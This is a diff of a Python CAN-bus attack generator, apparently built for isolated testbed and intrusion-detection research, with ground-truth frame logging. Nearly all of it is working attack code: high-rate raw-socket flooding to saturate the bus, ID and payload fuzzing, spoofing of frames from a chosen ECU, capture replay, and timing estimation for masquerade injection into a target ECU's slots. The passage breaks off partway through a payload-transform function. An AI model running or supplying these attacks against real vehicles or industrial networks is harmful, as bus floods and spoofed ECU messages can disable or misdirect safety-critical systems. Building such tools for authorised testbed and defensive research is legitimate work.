@@ -7,18 +7,23 @@ Implements common CAN attack profiles using python-can:
 - Fuzzing: random IDs/DLC/data to stress decoders
 - Spoof Injection: craft frames mimicking a target ECU
 - Replay: play back captured traffic
+- Masquerade: phase-locked injection in a target ECU's time slots
 
 Usage examples are in the accompanying README.
 
 IMPORTANT: Use only on an isolated testbed with explicit authorization.
 """
 import argparse
+import binascii
 import csv
+import errno
+import functools
 import os
-import random
+import select
 import sys
 import time
-from typing import Optional, Tuple, Iterable
+from collections import deque
+from typing import List, Optional, Tuple, Iterable
 
 try:
     import can
@@ -26,25 +31,78 @@ except ImportError as e:
     print("python-can is required. Install with: pip install python-can", file=sys.stderr)
     raise
 
+try:
+    import numpy as np
+except ImportError as e:
+    print("numpy is required. Install with: pip install numpy", file=sys.stderr)
+    raise
+
+sys.path.insert(0, os.path.abspath(os.path.join(os.path.dirname(__file__), "..", "..")))
+from canlog.candump import read_candump, frame_tuples  # noqa: E402
+from canlog.pcapng import PcapngWriter  # noqa: E402
+from rawcan import CAN_EFF_FLAG, FramePool, RawCANSender, batch_available, frame_fields, raw_available  # noqa: E402
+
+
+DEFAULT_BITRATE = 500000
+MESSAGE_POOL_SIZE = 64
+
 
 class AttackLogger:
-    def __init__(self, log_path: Optional[str]):
+    """Ground-truth log of sent frames: CSV, or pcapng (Wireshark) when the path ends in .pcapng.
+
+    In pcapng logs each (channel, attack) pair is one capture interface, named after the
+    channel and described by the attack; notes become packet comments.
+    """
+
+    def __init__(self, log_path: Optional[str], channel: str = "can0"):
         self.log_path = log_path
+        self.channel = channel or "can0"
         self.writer = None
         self.file = None
+        self.pcap = None
         if log_path:
-            os.makedirs(os.path.dirname(log_path), exist_ok=True)
+            if os.path.dirname(log_path):
+                os.makedirs(os.path.dirname(log_path), exist_ok=True)
+            if log_path.endswith(".pcapng"):
+                self.pcap = PcapngWriter(log_path)
+                return
             self.file = open(log_path, mode='w', newline='')
             self.writer = csv.writer(self.file)
             self.writer.writerow(["timestamp", "attack", "id", "is_extended", "dlc", "data_hex", "note"])  # header
 
     def log(self, attack: str, msg: can.Message, note: str = ""):
-        if self.writer:
+        if self.pcap:
+            self.pcap.write_frame(self.pcap.add_interface(self.channel, attack), time.time(),
+                                  msg.arbitration_id, msg.is_extended_id, msg.data, note)
+        elif self.writer:
             ts = time.time()
             data_hex = msg.data.hex().upper()
             self.writer.writerow([f"{ts:.6f}", attack, hex(msg.arbitration_id), bool(msg.is_extended_id), msg.dlc, data_hex, note])
 
+    def log_block(self, attack: str, frames: np.ndarray, timestamps: np.ndarray, count: int,
+                  notes: Optional[list] = None):
+        """Log the first `count` packed can_frames of a pool in one pass (hex-encoded once per block)."""
+        if count == 0:
+            return
+        if self.pcap:
+            sent = timestamps[:count] == timestamps[:count]
+            ids, ext, dlc, data = frame_fields(frames[:count][sent])
+            self.pcap.write_arrays(self.pcap.add_interface(self.channel, attack), timestamps[:count][sent],
+                                   ids, ext, dlc, data, [n for n, ok in zip(notes, sent) if ok] if notes else None)
+            return
+        if not self.writer:
+            return
+        ids, ext, dlc, data = frame_fields(frames[:count])
+        hexdata = binascii.hexlify(data.tobytes()).upper().decode("ascii")
+        self.writer.writerows(
+            [f"{ts:.6f}", attack, hex(i), e, d, hexdata[k * 16:k * 16 + 2 * d], notes[k] if notes else ""]
+            for k, (ts, i, e, d) in enumerate(zip(timestamps[:count].tolist(), ids.tolist(), ext.tolist(), dlc.tolist()))
+            if ts == ts
+        )
+
     def close(self):
+        if self.pcap:
+            self.pcap.close()
         if self.file:
             self.file.close()
 
@@ -82,46 +140,93 @@ def parse_payload(payload_arg: Optional[str], dlc: int) -> bytes:
     return bytes(data)
 
 
-def rand_payload(dlc: int, mode: str, seed: Optional[int]) -> bytes:
-    if seed is not None:
-        random.seed(seed + dlc)
-    if mode == "random":
-        return bytes(random.getrandbits(8) for _ in range(dlc))
-    elif mode == "incremental":
-        return bytes((i % 256) for i in range(dlc))
-    elif mode == "zeros":
-        return bytes([0] * dlc)
-    elif mode == "ones":
-        return bytes([0xFF] * dlc)
-    else:
-        raise ValueError(f"Unknown payload mode: {mode}")
+class FrameGenerator:
+    """Seeded per-stream frame source.
 
+    Uses a NumPy PCG64 generator and pre-generates IDs, DLCs and payloads in
+    blocks of `block_size` frames, so the send loops only index into ready
+    arrays. A given (seed, stream) pair always yields the same sequence.
+    """
 
-def next_id(id_range: Tuple[int, int], extended: bool, mode: str, seed: Optional[int]) -> int:
-    lo, hi = id_range
-    if extended:
-        max_id = 0x1FFFFFFF
-    else:
-        max_id = 0x7FF
-    if hi > max_id:
-        hi = max_id
-    if lo < 0:
-        lo = 0
-    if lo > hi:
-        lo, hi = hi, lo
-    if seed is not None:
-        random.seed(seed + lo + hi)
-    if mode == "random":
-        return random.randint(lo, hi)
-    elif mode == "sequential":
-        # Use a generator-like simple state via attribute; not thread-safe but fine for CLI
-        if not hasattr(next_id, "_seq_state"):
-            next_id._seq_state = lo
-        val = next_id._seq_state
-        next_id._seq_state = lo if val >= hi else val + 1
-        return val
-    else:
-        raise ValueError(f"Unknown id mode: {mode}")
+    def __init__(self, id_range: Tuple[int, int], extended: bool, id_mode: str,
+                 min_dlc: int, max_dlc: int, payload_mode: str,
+                 seed: Optional[int] = None, stream: int = 0, block_size: int = 4096):
+        lo, hi = id_range
+        max_id = 0x1FFFFFFF if extended else 0x7FF
+        hi = min(hi, max_id)
+        lo = max(lo, 0)
+        if lo > hi:
+            lo, hi = hi, lo
+        if id_mode not in ("random", "sequential"):
+            raise ValueError(f"Unknown id mode: {id_mode}")
+        if payload_mode not in ("random", "incremental", "zeros", "ones"):
+            raise ValueError(f"Unknown payload mode: {payload_mode}")
+        if not 0 <= min_dlc <= max_dlc <= 8:
+            raise ValueError(f"Invalid DLC range {min_dlc}-{max_dlc}")
+        self.lo, self.hi = lo, hi
+        self.extended = extended
+        self.id_mode = id_mode
+        self.min_dlc, self.max_dlc = min_dlc, max_dlc
+        self.payload_mode = payload_mode
+        self.block_size = block_size
+        self.rng = np.random.Generator(np.random.PCG64(np.random.SeedSequence(seed, spawn_key=(stream,))))
+        self._seq = 0
+        self._ids = []
+        self._dlcs = []
+        self._payloads = b""
+        self._pos = block_size
+        # Deterministic modes produce the same 8 bytes every frame
+        if payload_mode == "incremental":
+            self._fixed = bytes(range(8))
+        elif payload_mode == "ones":
+            self._fixed = bytes([0xFF] * 8)
+        else:
+            self._fixed = bytes(8)
+
+    def _generate(self, n: int) -> Tuple[np.ndarray, np.ndarray, np.ndarray]:
+        """Draw the next n frames as (ids, dlcs, payloads[n, 8]) arrays."""
+        if self.id_mode == "random":
+            ids = self.rng.integers(self.lo, self.hi + 1, size=n, dtype=np.int64)
+        else:
+            span = self.hi - self.lo + 1
+            ids = self.lo + (self._seq + np.arange(n, dtype=np.int64)) % span
+            self._seq = (self._seq + n) % span
+        if self.min_dlc == self.max_dlc:
+            dlcs = np.full(n, self.min_dlc, dtype=np.int64)
+        else:
+            dlcs = self.rng.integers(self.min_dlc, self.max_dlc + 1, size=n, dtype=np.int64)
+        if self.payload_mode == "random":
+            payloads = np.frombuffer(self.rng.bytes(8 * n), dtype=np.uint8).reshape(n, 8)
+        else:
+            payloads = np.broadcast_to(np.frombuffer(self._fixed, dtype=np.uint8), (n, 8))
+        return ids, dlcs, payloads
+
+    def _refill(self):
+        ids, dlcs, payloads = self._generate(self.block_size)
+        self._ids = ids.tolist()
+        self._dlcs = dlcs.tolist()
+        if self.payload_mode == "random":
+            self._payloads = payloads.tobytes()
+        self._pos = 0
+
+    def fill_frames(self, frames: np.ndarray):
+        """Overwrite a packed can_frame array in place with the next len(frames) frames of the stream."""
+        ids, dlcs, payloads = self._generate(len(frames))
+        frames["can_id"] = (ids | CAN_EFF_FLAG) if self.extended else ids
+        frames["len"] = dlcs
+        frames["data"] = payloads
+
+    def next_frame(self) -> Tuple[int, int, bytes]:
+        """Return (arbitration_id, dlc, payload) for the next frame of the stream."""
+        if self._pos >= self.block_size:
+            self._refill()
+        i = self._pos
+        self._pos = i + 1
+        dlc = self._dlcs[i]
+        if self.payload_mode == "random":
+            off = i << 3
+            return self._ids[i], dlc, self._payloads[off:off + dlc]
+        return self._ids[i], dlc, self._fixed[:dlc]
 
 
 def rate_controller(rate_pps: Optional[float], period_s: Optional[float]):
@@ -139,100 +244,752 @@ def rate_controller(rate_pps: Optional[float], period_s: Optional[float]):
             yield 0.0
 
 
-def send_message(bus: can.Bus, msg: can.Message):
+def can_frame_bits(arbitration_id: int, is_extended: bool, data: bytes) -> int:
+    """On-wire length in bits of a classic CAN data frame, including stuff bits.
+
+    Stuffing is evaluated on the real bitstream (SOF through CRC), then the
+    fixed-form tail is added: CRC delimiter, ACK slot/delimiter, EOF and IFS.
+    """
+    return _frame_bits_cached(arbitration_id, bool(is_extended), bytes(data))
+
+
+@functools.lru_cache(maxsize=8192)
+def _frame_bits_cached(arbitration_id: int, is_extended: bool, data: bytes) -> int:
+    dlc = len(data)
+    if is_extended:
+        # SOF, base ID, SRR, IDE, ID extension, RTR, r1, r0, DLC
+        bits = [0] + _to_bits(arbitration_id >> 18, 11) + [1, 1] + _to_bits(arbitration_id & 0x3FFFF, 18) + [0, 0, 0]
+    else:
+        # SOF, ID, RTR, IDE, r0, DLC
+        bits = [0] + _to_bits(arbitration_id, 11) + [0, 0, 0]
+    bits += _to_bits(dlc, 4)
+    for b in data:
+        bits += _to_bits(b, 8)
+    crc = 0
+    for bit in bits:
+        crc_next = bit ^ ((crc >> 14) & 1)
+        crc = (crc << 1) & 0x7FFF
+        if crc_next:
+            crc ^= 0x4599
+    bits += _to_bits(crc, 15)
+    stuff = 0
+    run_bit, run_len = bits[0], 0
+    for bit in bits:
+        if bit == run_bit:
+            run_len += 1
+        else:
+            run_bit, run_len = bit, 1
+        if run_len == 5:
+            # The inserted complement bit starts the next run
+            stuff += 1
+            run_bit, run_len = 1 - bit, 1
+    return len(bits) + stuff + 13
+
+
+def frame_bits_block(ids: np.ndarray, ext: np.ndarray, dlc: np.ndarray, data: np.ndarray) -> np.ndarray:
+    """Vectorized can_frame_bits() over a block of frames (data is an [n, 8] uint8 array)."""
+    n = len(ids)
+    ids = ids.astype(np.int64)
+    ext = ext.astype(bool)
+    dlc = dlc.astype(np.int64)
+    # Header bits laid out as in _frame_bits_cached, extended frames are 20 bits longer
+    hdr_len = np.where(ext, 39, 19)
+    body_len = hdr_len + 8 * dlc
+    width = int(body_len.max()) + 15
+    bits = np.zeros((n, width), dtype=np.uint8)
+    base = np.where(ext, ids >> 18, ids)
+    for j in range(11):
+        bits[:, 1 + j] = (base >> (10 - j)) & 1
+    # Standard: RTR, IDE, r0 = 0 at 12..14, DLC at 15..18
+    # Extended: SRR, IDE = 1 at 12..13, ID-B at 14..31, RTR, r1, r0 = 0 at 32..34, DLC at 35..38
+    bits[ext, 12] = 1
+    bits[ext, 13] = 1
+    for j in range(18):
+        bits[ext, 14 + j] = (ids[ext] >> (17 - j)) & 1
+    dlc_at = hdr_len - 4
+    rows = np.arange(n)
+    for j in range(4):
+        bits[rows, dlc_at + j] = (dlc >> (3 - j)) & 1
+    data_bits = np.unpackbits(data.astype(np.uint8), axis=1)
+    for j in range(64):
+        valid = j < 8 * dlc
+        bits[rows[valid], hdr_len[valid] + j] = data_bits[valid, j]
+    crc = np.zeros(n, dtype=np.int64)
+    for p in range(int(body_len.max())):
+        active = p < body_len
+        nxt = bits[:, p] ^ ((crc >> 14) & 1)
+        crc = np.where(active, ((crc << 1) & 0x7FFF) ^ (nxt * 0x4599), crc)
+    for j in range(15):
+        bits[rows, body_len + j] = (crc >> (14 - j)) & 1
+    stuffed_len = body_len + 15
+    stuff = np.zeros(n, dtype=np.int64)
+    run_bit = bits[:, 0].astype(np.int64)
+    run_len = np.zeros(n, dtype=np.int64)
+    for p in range(width):
+        active = p < stuffed_len
+        bit = bits[:, p]
+        same = bit == run_bit
+        run_len = np.where(same, run_len + 1, 1)
+        run_bit = np.where(same, run_bit, bit)
+        hit = active & (run_len == 5)
+        stuff += hit
+        run_bit = np.where(hit, 1 - bit, run_bit)
+        run_len = np.where(hit, 1, run_len)
+    return stuffed_len + stuff + 13
+
+
+def _to_bits(value: int, width: int) -> list:
+    return [(value >> i) & 1 for i in range(width - 1, -1, -1)]
+
+
+def read_txqueuelen(channel: Optional[str]) -> Optional[int]:
+    """Return the kernel TX queue length of a SocketCAN interface, if available."""
+    try:
+        with open(f"/sys/class/net/{channel}/tx_queue_len") as f:
+            return int(f.read().strip())
+    except (OSError, ValueError, TypeError):
+        return None
+
+
+class BusLoadMeter:
+    """Per-second frames/s and bus utilization, computed from frame bit lengths."""
+
+    def __init__(self, bitrate: int, interval: float = 1.0):
+        self.bitrate = bitrate
+        self.interval = interval
+        self.start = time.monotonic()
+        self.cpu_start = time.process_time()
+        self.window_start = self.start
+        self.next_tick = self.start + interval
+        self.frames = self.bits = self.enobufs = self.failed = 0
+        self.total_frames = self.total_bits = self.total_enobufs = self.total_failed = 0
+
+    def record(self, msg: can.Message):
+        self.frames += 1
+        self.bits += can_frame_bits(msg.arbitration_id, msg.is_extended_id, msg.data)
+        # Report by time, not frame count, so low --rate runs still report every interval
+        if time.monotonic() >= self.next_tick:
+            self.tick()
+
+    def record_bits(self, bits: int):
+        self.frames += 1
+        self.bits += bits
+        if time.monotonic() >= self.next_tick:
+            self.tick()
+
+    def record_block(self, count: int, bits: int):
+        self.frames += count
+        self.bits += bits
+        self.tick()
+
+    def backpressure(self):
+        self.enobufs += 1
+
+    def failure(self, err: Exception):
+        if self.failed == 0:
+            print(f"Send failed: {err}")
+        self.failed += 1
+
+    def tick(self):
+        now = time.monotonic()
+        elapsed = now - self.window_start
+        if elapsed < self.interval:
+            return
+        self._report(elapsed)
+        self.total_frames += self.frames
+        self.total_bits += self.bits
+        self.total_enobufs += self.enobufs
+        self.total_failed += self.failed
+        self.frames = self.bits = self.enobufs = self.failed = 0
+        self.window_start = now
+        self.next_tick = now + self.interval
+
+    def _report(self, elapsed: float):
+        fps = self.frames / elapsed
+        load = 100.0 * self.bits / elapsed / self.bitrate
+        print(f"[load] {fps:8.0f} frames/s  {load:5.1f}% bus  ENOBUFS={self.enobufs}  failed={self.failed}")
+
+    def summary(self):
+        elapsed = max(time.monotonic() - self.start, 1e-9)
+        cpu = max(time.process_time() - self.cpu_start, 1e-9)
+        frames = self.total_frames + self.frames
+        bits = self.total_bits + self.bits
+        print(f"[load] total: {frames} frames in {elapsed:.1f}s, {frames / elapsed:.0f} frames/s, "
+              f"{100.0 * bits / elapsed / self.bitrate:.1f}% average bus load, "
+              f"ENOBUFS={self.total_enobufs + self.enobufs}, failed={self.total_failed + self.failed}")
+        print(f"[load] per-core throughput: {frames / cpu:.0f} frames per CPU-second ({cpu * 1e6 / max(frames, 1):.2f} us CPU/frame)")
+
+
+def _is_backpressure(err: can.CanError) -> bool:
+    return getattr(err, "error_code", None) == errno.ENOBUFS or "buffer full" in str(err).lower()
+
+
+def send_message(bus: can.Bus, msg: can.Message, meter: Optional[BusLoadMeter] = None):
     try:
         bus.send(msg)
     except can.CanError as e:
-        # Silently continue for aggressive attacks; print occasionally
-        print(f"Send failed: {e}")
+        if meter is None:
+            print(f"Send failed: {e}")
+        elif _is_backpressure(e):
+            meter.backpressure()
+        else:
+            meter.failure(e)
+        return
+    if meter:
+        meter.record(msg)
+
+
+def saturate_send(bus: can.Bus, msg: can.Message, meter: BusLoadMeter, drain_s: float):
+    """Non-blocking send that retries on ENOBUFS until the frame is queued.
+
+    On backpressure we wait for the socket to become writable, bounded by the
+    time the kernel TX queue needs to drain, instead of spinning on send().
+    """
+    while True:
+        try:
+            bus.send(msg, timeout=0)
+            meter.record(msg)
+            return
+        except can.CanError as e:
+            if not _is_backpressure(e):
+                meter.failure(e)
+                return
+            meter.backpressure()
+        try:
+            select.select([], [bus.fileno()], [], drain_s)
+        except (NotImplementedError, OSError, ValueError):
+            time.sleep(drain_s)
+
+
+def make_sender(bus: can.Bus, args: argparse.Namespace, meter: Optional[BusLoadMeter]):
+    """Return the per-frame send callable for the selected mode."""
+    if not args.saturate:
+        return lambda msg: send_message(bus, msg, meter)
+    qlen = read_txqueuelen(args.channel)
+    bitrate = args.bitrate or DEFAULT_BITRATE
+    # Worst-case 8-byte extended frame is 160 bits
+    drain_s = max(qlen or 1, 1) * 160.0 / bitrate
+    print(f"Saturation mode: txqueuelen={qlen if qlen is not None else 'n/a'}, backoff {drain_s * 1000:.2f} ms on ENOBUFS")
+    return lambda msg: saturate_send(bus, msg, meter, drain_s)
+
+
+def make_pacer(args: argparse.Namespace):
+    return rate_controller(None, None) if args.saturate else rate_controller(args.rate, args.period)
+
+
+def use_raw_socket(args: argparse.Namespace) -> bool:
+    return args.bus_type == "socketcan" and not args.no_raw and raw_available()
+
+
+def open_raw_sender(args: argparse.Namespace, pool: FramePool, end_time: Optional[float] = None) -> RawCANSender:
+    """Raw socket sender for the pool; sendmmsg headers are only built when batching.
+
+    Backpressure retries give up at end_time, so --duration holds on a bus nobody ACKs.
+    """
+    qlen = read_txqueuelen(args.channel)
+    drain_s = max(qlen or 1, 1) * 160.0 / (args.bitrate or DEFAULT_BITRATE)
+    if args.batch > 1 and not batch_available():
+        print("sendmmsg not available, sending one frame per syscall")
+        args.batch = 1
+    return RawCANSender(args.channel, drain_s, pool=pool if args.batch > 1 else None, deadline=end_time)
+
+
+def report_syscalls(sender: RawCANSender, frames: int, batch: int):
+    print(f"[raw] {frames} frames, {sender.syscalls} send syscalls "
+          f"({sender.syscalls / max(frames, 1):.3f} per frame, batch={batch})")
+
+
+def raw_send_loop(args: argparse.Namespace, attack: str, logger: AttackLogger, meter: Optional[BusLoadMeter],
+                  fill, block_size: int, refill: bool = True):
+    """Send from a preallocated can_frame pool on a raw SocketCAN socket.
+
+    `fill(frames)` writes the next block into the pool in place; with
+    refill=False the pool is filled once and resent (constant floods).
+    With --batch 1 each frame is one socket send; with --batch N consecutive
+    slots go out in one sendmmsg call and pacing is applied per batch.
+    """
+    pool = FramePool(block_size)
+    timestamps = np.zeros(block_size, dtype=np.float64)
+    end_time = time.time() + args.duration if args.duration else None
+    sender = open_raw_sender(args, pool, end_time)
+    send = sender.send
+    views = pool.views
+    batch = args.batch
+    pacer = make_pacer(args)
+    fill(pool.frames)
+    bits = frame_bits_block(*frame_fields(pool.frames)) if meter else None
+    bits_list = bits.tolist() if meter else None
+    enobufs = 0
+    sent_total = 0
+    i = 0
+    try:
+        if batch > 1:
+            while True:
+                if i == block_size:
+                    logger.log_block(attack, pool.frames, timestamps, i)
+                    if refill:
+                        fill(pool.frames)
+                        if meter:
+                            bits = frame_bits_block(*frame_fields(pool.frames))
+                    i = 0
+                n = min(batch, block_size - i)
+                sent = sender.send_batch(i, n)
+                now = time.time()
+                timestamps[i:i + sent] = now
+                if sent < n:
+                    timestamps[i + sent:i + n] = np.nan
+                if meter:
+                    meter.enobufs += sender.enobufs - enobufs
+                    enobufs = sender.enobufs
+                    meter.record_block(sent, int(bits[i:i + sent].sum()))
+                i += n
+                sent_total += sent
+                if end_time and now >= end_time:
+                    break
+                sleep_s = next(pacer) * n
+                if sleep_s > 0:
+                    time.sleep(sleep_s)
+        else:
+            for sleep_s in pacer:
+                if i == block_size:
+                    logger.log_block(attack, pool.frames, timestamps, i)
+                    if refill:
+                        fill(pool.frames)
+                        if meter:
+                            bits_list = frame_bits_block(*frame_fields(pool.frames)).tolist()
+                    i = 0
+                sent = send(views[i])
+                now = time.time()
+                if sent:
+                    timestamps[i] = now
+                    sent_total += 1
+                    if meter:
+                        if sender.enobufs != enobufs:
+                            meter.enobufs += sender.enobufs - enobufs
+                            enobufs = sender.enobufs
+                        meter.record_bits(bits_list[i])
+                else:
+                    # NaN marks the slot as not sent for the logger
+                    timestamps[i] = np.nan
+                i += 1
+                if end_time and now >= end_time:
+                    break
+                if sleep_s > 0:
+                    time.sleep(sleep_s)
+    finally:
+        logger.log_block(attack, pool.frames, timestamps, i)
+        if meter:
+            report_syscalls(sender, sent_total, batch)
+        sender.close()
 
 
-def attack_flood(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger):
+def raw_replay_loop(args: argparse.Namespace, logger: AttackLogger, meter: Optional[BusLoadMeter],
+                    msgs: list, offsets: list, notes: list, timed: bool):
+    """Replay prebuilt messages from a can_frame pool holding the whole capture.
+
+    In timed mode every frame that is already due goes out in the same
+    sendmmsg batch (up to --batch), so bursts in the capture cost one syscall.
+    """
+    total = len(msgs)
+    pool = FramePool(total)
+    pool.frames["can_id"] = [m.arbitration_id | (CAN_EFF_FLAG if m.is_extended_id else 0) for m in msgs]
+    pool.frames["len"] = [m.dlc for m in msgs]
+    payload = b"".join(bytes(m.data).ljust(8, b"\0") for m in msgs)
+    pool.frames["data"] = np.frombuffer(payload, dtype=np.uint8).reshape(total, 8)
+    timestamps = np.zeros(total, dtype=np.float64)
+    offs = np.asarray(offsets, dtype=np.float64)
+    end_time = time.time() + args.duration if args.duration else None
+    sender = open_raw_sender(args, pool, end_time)
+    batch = args.batch
+    views = pool.views
+    bits = frame_bits_block(*frame_fields(pool.frames)) if meter else None
+    pacer = make_pacer(args)
+    enobufs = 0
+    sent_total = 0
+    i = 0
+    base = time.perf_counter()
+    try:
+        while True:
+            if end_time and time.time() >= end_time:
+                break
+            if timed:
+                rel = time.perf_counter() - base
+                due = int(np.searchsorted(offs, rel, side="right"))
+                if due <= i:
+                    wait = offs[i] - rel
+                    if end_time:
+                        # A long idle gap in the capture must not outlast --duration
+                        wait = min(wait, end_time - time.time())
+                    if wait > 0:
+                        time.sleep(wait)
+                    continue
+                n = min(batch, due - i)
+            else:
+                n = min(batch, total - i)
+            if batch > 1:
+                sent = sender.send_batch(i, n)
+            else:
+                sent = 1 if sender.send(views[i]) else 0
+            now = time.time()
+            timestamps[i:i + sent] = now
+            if sent < n:
+                timestamps[i + sent:i + n] = np.nan
+            if meter:
+                meter.enobufs += sender.enobufs - enobufs
+                enobufs = sender.enobufs
+                meter.record_block(sent, int(bits[i:i + sent].sum()))
+            i += n
+            sent_total += sent
+            if not timed:
+                sleep_s = next(pacer) * n
+                if sleep_s > 0:
+                    time.sleep(sleep_s)
+            if i >= total:
+                logger.log_block("replay", pool.frames, timestamps, i, notes)
+                i = 0
+                if not args.loop:
+                    break
+                base = time.perf_counter()
+    finally:
+        logger.log_block("replay", pool.frames, timestamps, i, notes)
+        if meter:
+            report_syscalls(sender, sent_total, batch)
+        sender.close()
+
+
+def attack_flood(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger, meter: Optional[BusLoadMeter] = None):
     """DoS flood: Saturate bus with repeated frames."""
     end_time = time.time() + args.duration if args.duration else None
     dlc = args.dlc
-    payload = parse_payload(args.payload, dlc) if args.payload else rand_payload(dlc, args.payload_mode, args.seed)
-    rid = args.id if args.id is not None else next_id(args.id_range, args.extended, args.id_mode, args.seed)
+    gen = FrameGenerator(args.id_range, args.extended, args.id_mode, dlc, dlc, args.payload_mode, args.seed, args.stream)
+    gen_id, _, gen_payload = gen.next_frame()
+    payload = parse_payload(args.payload, dlc) if args.payload else gen_payload
+    rid = args.id if args.id is not None else gen_id
     msg = can.Message(arbitration_id=rid, is_extended_id=args.extended, dlc=dlc, data=payload)
-    pacer = rate_controller(args.rate, args.period)
+    if use_raw_socket(args):
+        def fill(frames):
+            frames["can_id"] = (rid | CAN_EFF_FLAG) if args.extended else rid
+            frames["len"] = dlc
+            frames["data"][:, :dlc] = np.frombuffer(payload, dtype=np.uint8)
+        raw_send_loop(args, "flood", logger, meter, fill, gen.block_size, refill=False)
+        return
+    pacer = make_pacer(args)
+    send = make_sender(bus, args, meter)
     for sleep_s in pacer:
         if end_time and time.time() >= end_time:
             break
-        send_message(bus, msg)
+        send(msg)
         logger.log("flood", msg)
         if sleep_s > 0:
             time.sleep(sleep_s)
 
 
-def attack_fuzz(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger):
+def attack_fuzz(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger, meter: Optional[BusLoadMeter] = None):
     """Fuzz: Randomize ID/DLC/payload continuously."""
     end_time = time.time() + args.duration if args.duration else None
-    pacer = rate_controller(args.rate, args.period)
+    gen = FrameGenerator(args.id_range, args.extended, args.id_mode, args.min_dlc, args.max_dlc, args.payload_mode, args.seed, args.stream)
+    if use_raw_socket(args):
+        raw_send_loop(args, "fuzz", logger, meter, gen.fill_frames, gen.block_size)
+        return
+    pacer = make_pacer(args)
+    send = make_sender(bus, args, meter)
+    # Rotating pool of messages mutated in place; deep enough that a backend
+    # still holding a reference to a queued message never sees it change
+    pool = [can.Message(is_extended_id=args.extended, data=bytearray(8)) for _ in range(MESSAGE_POOL_SIZE)]
+    slot = 0
     while True:
         if end_time and time.time() >= end_time:
             break
-        rid = next_id(args.id_range, args.extended, args.id_mode, args.seed)
-        dlc = random.randint(args.min_dlc, args.max_dlc)
-        payload = rand_payload(dlc, args.payload_mode, args.seed)
-        msg = can.Message(arbitration_id=rid, is_extended_id=args.extended, dlc=dlc, data=payload)
-        send_message(bus, msg)
+        rid, dlc, payload = gen.next_frame()
+        msg = pool[slot]
+        slot = (slot + 1) % MESSAGE_POOL_SIZE
+        msg.arbitration_id = rid
+        msg.dlc = dlc
+        msg.data[:] = payload
+        send(msg)
         logger.log("fuzz", msg)
         sleep_s = next(pacer)
         if sleep_s > 0:
             time.sleep(sleep_s)
 
 
-def attack_spoof(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger):
+def attack_spoof(bus: can.Bus, args: argparse.Namespace, logger: AttackLogger, meter: Optional[BusLoadMeter] = None):
     """Spoof: Craft frames with a target ID and payload, at a set period or rate."""
     end_time = time.time() + args.duration if args.duration else None
     dlc = args.dlc
-    payload = parse_payload(args.payload, dlc) if args.payload else rand_payload(dlc, args.payload_mode, args.seed)
     rid = args.id
     if rid is None:
         raise ValueError("Spoof requires --id")
+    if args.payload:
+        payload = parse_payload(args.payload, dlc)
+    else:
+        payload = FrameGenerator((rid, rid), args.extended, "sequential", dlc, dlc, args.payload_mode, args.seed, args.stream).next_frame()[2]
     msg = can.Message(arbitration_id=rid, is_extended_id=args.extended, dlc=dlc, data=payload)
-    pacer = rate_controller(args.rate, args.period)
+    if use_raw_socket(args):
+        def fill(frames):
+            frames["can_id"] = (rid | CAN_EFF_FLAG) if args.extended else rid
+            frames["len"] = dlc
+            frames["data"][:, :dlc] = np.frombuffer(payload, dtype=np.uint8)
+        raw_send_loop(args, "spoof", logger, meter, fill, 64, refill=False)
+        return
+    pacer = make_pacer(args)
+    send = make_sender(bus, args, meter)
     for sleep_s in pacer:
         if end_time and time.time() >= end_time:
             break
-        send_message(bus, msg)
+        send(msg)
         logger.log("spoof", msg)
         if sleep_s > 0:
             time.sleep(sleep_s)
 
 
-def parse_candump_line(line: str) -> Optional[Tuple[float, int, bool, bytes]]:
-    """Parse a minimal candump log line: (timestamp) can0 123#11223344... or extended IDs with 'can0 1234567#...'
-    Returns (timestamp, id, extended, data) or None.
+class PeriodEstimator:
+    """Online least-squares fit of arrival times t_k = t0 + a + k * period.
+
+    seed() starts the fit from warm-up arrivals, taking slot indices from
+    their median inter-arrival time, so a frame missed while learning counts
+    as a skipped slot rather than doubling the period. Each later arrival is
+    assigned to the nearest slot index k of the current fit. Updates are O(1).
     """
-    line = line.strip()
-    if not line or line.startswith("#"):
-        return None
-    # Common format: (1633024800.123456) can0 123#0102030405060708
-    try:
-        if line[0] == "(":
-            ts_end = line.index(")")
-            ts = float(line[1:ts_end])
-            rest = line[ts_end+1:].strip()
-        else:
-            ts = time.time()
-            rest = line
-        parts = rest.split()
-        if len(parts) < 2:
-            return None
-        frame = parts[1]
-        if "#" not in frame:
+
+    def __init__(self):
+        self.t0 = None
+        self.n = 0
+        self.sk = self.st = self.skk = self.skt = self.stt = 0.0
+        self.a = 0.0
+        self.period = None
+        self.last_k = -1
+
+    def seed(self, times: List[float]):
+        """Initial fit from at least 3 warm-up arrival times."""
+        gaps = sorted(b - a for a, b in zip(times, times[1:]) if b > a)
+        if not gaps:
+            raise ValueError("Warm-up frames carry no usable timing")
+        self.t0 = times[0]
+        self.period = gaps[len(gaps) // 2]
+        for t in times:
+            self.update(t)
+
+    def slot_of(self, t: float) -> int:
+        return int(round((t - self.t0 - self.a) / self.period))
+
+    def update(self, t: float) -> Optional[int]:
+        """Add an arrival time after seed(); return its slot index, or None if rejected as a duplicate."""
+        k = self.slot_of(t)
+        if k <= self.last_k:
             return None
-        id_str, data_hex = frame.split("#", 1)
-        rid = int(id_str, 16)
-        extended = rid > 0x7FF
-        data = bytes.fromhex(data_hex)
-        return (ts, rid, extended, data)
-    except Exception:
-        return None
+        x = t - self.t0
+        self.n += 1
+        self.sk += k
+        self.st += x
+        self.skk += k * k
+        self.skt += k * x
+        self.stt += x * x
+        self.last_k = k
+        if self.n >= 2:
+            denom = self.n * self.skk - self.sk * self.sk
+            self.period = (self.n * self.skt - self.sk * self.st) / denom
+            self.a = (self.st - self.period * self.sk) / self.n
+        return k
+
+    def predict(self, k: int) -> float:
+        return self.t0 + self.a + self.period * k
+
+    def next_slot(self, t: float) -> int:
+        """First slot index whose predicted time is after t."""
+        return max(self.last_k + 1, int((t - self.t0 - self.a) / self.period) + 1)
+
+    def jitter(self) -> float:
+        """RMS residual of the fit in seconds."""
+        if self.n < 3:
+            return 0.0
+        sse = self.stt - self.a * self.st - self.period * self.skt
+        return (max(sse, 0.0) / (self.n - 2)) ** 0.5
+
+
+def build_payload_transform(mode: str, payload_arg: Optional[str], delta: int):
+    """Return a callable mapping the target's last real payload to the injected payload."""
+    raw = bytes.fromhex(payload_arg.replace(",", "").replace(" ", "")) if payload_arg else b""
